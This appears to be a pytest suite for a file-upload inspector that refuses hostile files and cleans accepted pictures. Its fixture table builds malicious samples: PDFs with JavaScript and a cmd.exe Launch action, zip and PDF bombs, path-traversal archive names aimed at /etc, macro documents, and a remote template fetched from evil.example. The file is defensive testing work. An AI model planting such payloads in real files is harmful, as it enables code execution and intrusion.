"""What comes in is judged by its bytes; what is hostile stays outside, whatever it calls itself."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.shared.files.inspection import inspect
from portal.shared.files.pdf import MOST_STREAMS
from portal.shared.files.picture_headers import MOST_SCANS
from portal.shared.files.policies import Kind, UploadPolicy
from portal.shared.files.refusals import SENTENCES, RefusedFileError
from tests.portal.shared.files import samples
from tests.portal.shared.files.samples import DOCUMENTS, GOOD, SCRIPT, chunk, office, pdf, pdf_stream, picture

PICTURES = replace(DOCUMENTS, kinds=frozenset({Kind.PICTURE}))


def kept(data: bytes, policy: UploadPolicy = DOCUMENTS) -> bytes:
    return b"".join(inspect(io.BytesIO(data), len(data), policy).pieces)


def with_entry(**changes: int) -> bytes:
    """A document whose first directory entry lies about itself; offsets as in APPNOTE 4.3.12."""
    offsets = {"flags": (8, "<H"), "method": (10, "<H"), "unpacked": (24, "<L")}
    data = bytearray(office())
    start = data.index(b"PK\x01\x02")
    for name, value in changes.items():
        offset, form = offsets[name]
        struct.pack_into(form, data, start + offset, value)
    return bytes(data)


def many_scans() -> bytes:
    data = picture("JPEG", progressive=True)
    scan = data.index(b"\xff\xda")
    return data[:scan] + data[scan:-2] * (MOST_SCANS + 1) + data[-2:]


def moving(format: str) -> bytes:
    target = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(target, format, save_all=True, append_images=frames[1:])
    return target.getvalue()


def zeros(megabytes: int) -> bytes:
    return bytes(megabytes * 1024 * 1024)


def names_twice() -> bytes:
    data = office(entries={"word/a.xml": b"<a/>", "word/b.xml": b"<b/>"})
    return data.replace(b"word/b.xml", b"WORD/a.xml")


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("empty", lambda: b""),
    "svg with script": ("svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>%s</svg>" % SCRIPT),
    "svg after a declaration": ("svg", lambda: b"<?xml version='1.0'?>\n<!-- x -->\n<SVG/>"),
    "html": ("mixed", lambda: b"<!doctype html>" + SCRIPT),
    "html after words": ("mixed", lambda: b"Dear reader, " + SCRIPT),
    "xml": ("mixed", lambda: b"\xef\xbb\xbf <?xml version='1.0'?><x/>"),
    "program": ("encoding", lambda: b"\x7fELF\x02\x01\x01\0" + bytes(100)),
    "neither utf-8 nor cp932": ("encoding", lambda: b"name\n\x85\xff\xfd\n"),
    "text with nul": ("encoding", lambda: b"a\0b"),
    "png of 60000 x 60000": ("pixels", lambda: samples.png_saying(60_000, 60_000)),
    "png that says more than it holds": ("damaged", lambda: samples.png_saying(4_000, 4_000)),
    "png of no width": ("damaged", lambda: samples.png_saying(0, 10)),
    "moving png": ("moving", lambda: moving("PNG")),
    "moving webp": ("moving", lambda: moving("WEBP")),
    "gif": ("encoding", lambda: moving("GIF")),
    "cut jpeg": ("damaged", lambda: samples.photo_with_place()[:-200]),
    "cut png": ("damaged", lambda: picture("PNG", (200, 200))[:-40]),
    "cut webp": ("damaged", lambda: picture("WEBP", (200, 200))[:-40]),
    "jpeg of endless scans": ("damaged", many_scans),
    "jpeg without picture": ("damaged", lambda: b"\xff\xd8\xff\xe0\x00\x10" + bytes(14) + b"\xff\xd9"),
    "pdf after something": ("encoding", lambda: b"\x00" + pdf()),
    "pdf of no version": ("mixed", lambda: b"%PDF-x" + pdf()[8:]),
    "pdf with html behind": ("mixed", lambda: pdf(tail=b"\n" + SCRIPT)),
    "pdf with zip behind": ("mixed", lambda: pdf(tail=b"\n" + office())),
    "pdf with zip inside": ("mixed", lambda: pdf(objects=pdf_stream(b"", b"/Length 1") + b"%" + office() + b"\n")),
    "cut pdf": ("damaged", lambda: pdf()[:-8]),
    "pdf with password": ("pdf_locked", lambda: pdf(entries=b"/Encrypt 5 0 R")),
    "pdf with javascript": ("pdf_active", lambda: pdf(entries=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf with hidden javascript": ("pdf_active", lambda: pdf(entries=b"/AA << /S /J#61#76aScript /JS 4 0 R >>")),
    "pdf with packed javascript": (
        "pdf_active",
        lambda: pdf(objects=pdf_stream(b"10 0 " + b" " * 70_000 + b"<< /S /JavaScript >>")),
    ),
    "pdf packed twice": (
        "pdf_active",
        lambda: pdf(objects=pdf_stream(b"x", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
    ),
    "pdf packed twice over": (
        "pdf_active",
        lambda: pdf(objects=pdf_stream(b"x", b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]")),
    ),
    "pdf packed far from its name": (
        "pdf_active",
        lambda: pdf(
            objects=pdf_stream(b"<< /S /JavaScript >>", b"/Filter /FlateDecode" + b" " * 3000 + b"/Type /Obj#53tm")
        ),
    ),
    "pdf of packed objects without end": (
        "bomb",
        lambda: pdf(objects=pdf_stream(b"1 0 <<>>", b"/Type /ObjStm /Filter /FlateDecode") * (MOST_STREAMS + 1)),
    ),
    "pdf with launch": ("pdf_active", lambda: pdf(objects=b"8 0 obj << /S /Launch /F (cmd.exe) >> endobj\n")),
    "pdf with a file": ("pdf_active", lambda: pdf(objects=b"8 0 obj << /Type /EmbeddedFile >> endobj\n")),
    "pdf with xfa": ("pdf_active", lambda: pdf(entries=b"/AcroForm << /XFA [ (x) 5 0 R ] >>")),
    "pdf bomb": ("bomb", lambda: pdf(objects=pdf_stream(zeros(40)) + pdf_stream(zeros(40)))),
    "zip": ("mixed", lambda: office("a.txt")),
    "zip of two documents": ("mixed", lambda: office(entries={"xl/workbook.xml": b"<x/>"})),
    "zip bomb": ("bomb", lambda: office(entries={"word/media/a.xml": zeros(60)})),
    "zip bomb of many": ("bomb", lambda: office(entries={f"word/{n}.xml": b" " * 65_000 for n in range(2_050)})),
    "zip that lies about its size": ("damaged", lambda: with_entry(unpacked=4)),
    "zip of unknown packing": ("mixed", lambda: with_entry(method=99)),
    "locked zip": ("mixed", lambda: with_entry(flags=1)),
    "zip in zip": ("inside", lambda: office(entries={"word/embeddings/a.xlsx": office("xl/workbook.xml")})),
    "ole in zip": ("inside", lambda: office(entries={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})),
    "macros": ("macros", lambda: office(entries={"word/VBAProject.bin": b"x"})),
    "macros by type": ("macros", lambda: office(types=b"<Types>document.macroEnabled.main+xml</Types>")),
    "template from elsewhere": (
        "inside",
        lambda: office(
            entries={
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            }
        ),
    ),
    "entities": ("mixed", lambda: office(body=b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>")),
    "paths upward": ("mixed", lambda: office(entries={"word/../../../etc/cron.d/x": b"x"})),
    "paths from the root": ("mixed", lambda: office(entries={"/etc/passwd": b"x"})),
    "paths of windows": ("mixed", lambda: office(entries={"C:/x": b"x"})),
    "a name twice": ("mixed", names_twice),
    "zip with something behind": ("damaged", lambda: office() + SCRIPT),
    "zip with something before": ("mixed", lambda: b"PK" + SCRIPT + office()),
    "cut zip": ("damaged", lambda: office()[:-30]),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_with_a_reason(name: str) -> None:
    code, make = HOSTILE[name]
    with pytest.raises(RefusedFileError) as refused:
        kept(make())
    assert refused.value.code == code
    assert refused.value.sentence().endswith(".")


@pytest.mark.parametrize("name", GOOD)
def test_good_files_are_taken(name: str) -> None:
    data = GOOD[name]
    assert kept(data) == data if not data[:4].startswith((b"\xff\xd8", b"\x89PNG", b"RIFF")) else kept(data)


@pytest.mark.parametrize(
    "name", [*(one for one in GOOD if one not in ("jpeg", "png", "png with holes", "webp", "photo")), "html"]
)
def test_a_purpose_for_pictures_takes_nothing_else(name: str) -> None:
    data = GOOD.get(name, b"<html>" + SCRIPT)
    with pytest.raises(RefusedFileError) as refused:
        kept(data, PICTURES)
    assert refused.value.code == "kind" and "JPEG, PNG, WebP" in refused.value.sentence()


@pytest.mark.parametrize("name", ["jpeg", "png", "webp"])
def test_what_rides_behind_a_picture_is_left_behind(name: str) -> None:
    for rider in (SCRIPT, office(), b"\0" * 100 + pdf()):
        data = kept(GOOD[name] + rider)
        assert data[:4] == b"RIFF" and len(data) == struct.unpack("<I", data[4:8])[0] + 8
        assert b"script" not in data and b"PK" not in data and b"%PDF" not in data


def test_packed_objects_are_found_wherever_they_lie() -> None:
    """The file is read in pieces, and none of their seams hides anything."""
    hidden = pdf_stream(b"10 0 << /S /JavaScript >>")
    for place in range(60_000, 70_000, 97):
        with pytest.raises(RefusedFileError, match="pdf_active"):
            kept(pdf(objects=b"%" + b"x" * place + b"\n" + hidden))


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "PA", "RGB", "RGBA", "CMYK", "YCbCr", "I;16"])
def test_every_kind_of_colours_is_painted(mode: str) -> None:
    format = "JPEG" if mode in ("CMYK", "YCbCr") else "PNG"
    source = Image.linear_gradient("L").resize((700, 300))
    image = (
        source.convert("RGBA").quantize()
        if mode == "PA"
        else source.convert("RGB" if mode == "P" else "L").convert(mode)
    )
    target = io.BytesIO()
    image.save(target, format)
    with Image.open(io.BytesIO(kept(target.getvalue(), replace(PICTURES, max_side=100)))) as again:
        assert again.size == (100, 43)
        low, high = again.convert("L").getpixel((50, 2)), again.convert("L").getpixel((50, 40))
    assert isinstance(low, int) and isinstance(high, int) and low < 60 and high > 190


def test_a_photo_loses_its_place_and_stands_upright() -> None:
    photo = GOOD["photo"]
    assert samples.GPS in Image.open(io.BytesIO(photo)).getexif(), "the control"
    with Image.open(io.BytesIO(kept(photo))) as again:
        assert again.size == (200, 400)
        red, blue = again.getpixel((100, 20)), again.getpixel((100, 380))
        assert dict(again.getexif()) == {} and not {"exif", "xmp", "icc_profile", "comment"} & again.info.keys()
    assert isinstance(red, tuple) and isinstance(blue, tuple) and red[0] > 200 and blue[2] > 200
    assert b"Secret" not in kept(photo) and b"at home" not in kept(photo)


def test_huge_texts_in_a_picture_are_not_unpacked() -> None:
    texts = chunk(b"zTXt", b"x\0\0" + zlib.compress(zeros(4)))
    data = samples.png_with(*[texts] * 100)
    assert kept(data) == kept(GOOD["png"])


def test_a_picture_is_made_to_fit() -> None:
    noise = Image.effect_noise((1600, 900), 200).convert("RGB")
    target = io.BytesIO()
    noise.save(target, "PNG")
    policy = replace(PICTURES, max_bytes=10_000_000, max_side=512, fit_bytes=20_000)
    data = kept(target.getvalue(), policy)
    assert len(data) <= 20_000
    with Image.open(io.BytesIO(data)) as again:
        assert max(again.size) <= 512 and abs(again.width / again.height - 16 / 9) < 0.03


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(sorted(GOOD)),
    edits=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.binary(min_size=1, max_size=6)), max_size=6),
    cut=st.floats(0, 1) | st.none(),
)
def test_whatever_is_damaged_is_taken_or_refused_and_nothing_else(
    name: str, edits: list[tuple[float, bytes]], cut: float | None
) -> None:
    data = bytearray(GOOD[name])
    for place, change in edits:
        start = int(place * len(data))
        data[start : start + len(change)] = change
    whole = bytes(data if cut is None else data[: int(cut * len(data))])
    try:
        kept(whole, replace(DOCUMENTS, max_pixels=1_000_000))
    except RefusedFileError as refused:
        assert refused.code in SENTENCES and refused.sentence()


def test_a_good_zip_stays_readable() -> None:
    with zipfile.ZipFile(io.BytesIO(kept(GOOD["docx"]))) as packed:
        assert packed.testzip() is None
